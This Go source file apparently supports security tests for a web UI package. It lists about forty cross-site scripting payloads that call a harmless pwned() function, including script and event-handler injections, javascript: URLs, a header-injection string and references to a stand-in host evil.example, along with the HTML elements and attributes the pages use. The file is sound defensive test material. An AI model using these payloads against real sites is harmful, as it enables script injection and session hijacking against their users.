// Package xss has texts that run a script in a page that shows them wrongly, and what the pages and mails of package ui
// are made of. Each script calls pwned, which the pages do not have.
package xss

import (
	"slices"
	"strings"
	"unicode"
)

// Payloads returns the texts. Some have control characters.
func Payloads() []string {
	return []string{
		`<script>pwned()</script>`, `"><img src=x onerror=pwned()>`, `' onmouseover='pwned()`, "` onfocus=pwned() autofocus `", `</title><svg onload=pwned()>`,
		`</textarea><script>pwned()</script>`, "javascript:pwned()", "JaVaScRiPt:pwned()", "data:text/html,<script>pwned()</script>", "//evil.example/pwned", `\" onload=pwned() `,
		"{{.}}{{template \"page\"}}", "\u2028pwned()", "&lt;script&gt;pwned()", "]]><script>pwned()</script>", "a\nb\r\nSet-Cookie: pwned=1", "\u202epwned", "}*{x:expression(pwned())}",
		"0;url=javascript:pwned()", "x style=background:url(//evil.example/pwned)",
		`<details open ontoggle=pwned()>`, `<input onfocus=pwned() autofocus>`, `<iframe srcdoc="<script>parent.pwned()</script>">`, `<iframe src=javascript:parent.pwned()>`,
		`<meta http-equiv=refresh content="0;url=javascript:pwned()">`, `<base href=//evil.example/>`, `<form action=//evil.example/><button>pwned`, `<link rel=stylesheet href=//evil.example/x>`,
		`<style>@import'//evil.example/x';</style>`, `<a href=javascript:pwned()>x</a>`, `<object data=javascript:pwned()>`, `<math><mtext><table><mglyph><style><img src=x onerror=pwned()>`,
		`<noscript><p title="</noscript><img src=x onerror=pwned()>">`, `<x contenteditable onfocus=pwned() autofocus tabindex=1>`, `</p><video><source onerror=pwned()>`, `<svg><animate onbegin=pwned() attributeName=x dur=1s>`,
		`<bdi><script>pwned()</script>`, "\u2069<script>pwned()</script>", "<!--<script>pwned()",
	}
}

// Lines returns lines of at most length bytes that have all payloads without control characters. A payload that is
// longer is left out.
func Lines(length int) (lines []string) {
	line := ""
	for _, p := range Payloads() {
		p = strings.TrimSpace(p)
		switch {
		case strings.ContainsFunc(p, func(r rune) bool { return unicode.Is(unicode.C, r) || unicode.Is(unicode.Zl, r) }), len(p) > length:
			continue
		case line == "":
			line = p
		case len(line)+1+len(p) > length:
			lines, line = append(lines, line), p
		default:
			line += " " + p
		}
	}
	return slices.DeleteFunc(append(lines, line), func(l string) bool { return l == "" })
}

// Elements returns the names of the elements that pages and mails have.
func Elements() []string {
	return strings.Fields("!doctype html head meta title link script body header nav main footer section a ul li p span h1 h2 hgroup form input label select option textarea button " +
		"svg path rect bdi dl div dt dd details summary table thead tbody tr th td picture source img style")
}

// Attributes returns the names of their attributes. Only mails have style.
func Attributes() []string {
	return strings.Fields("action aria-controls aria-current aria-describedby aria-hidden aria-invalid aria-label aria-labelledby aria-pressed autocapitalize autocomplete autofocus charset checked class " +
		"content d data-label data-name data-options data-page data-texts defer dir enterkeyhint fill focusable for height hidden href html http-equiv id inputmode lang maxlength media method name pattern readonly rel " +
		"required role rows scope selected shape-rendering spellcheck src srcset style tabindex type value viewBox width alt")
}
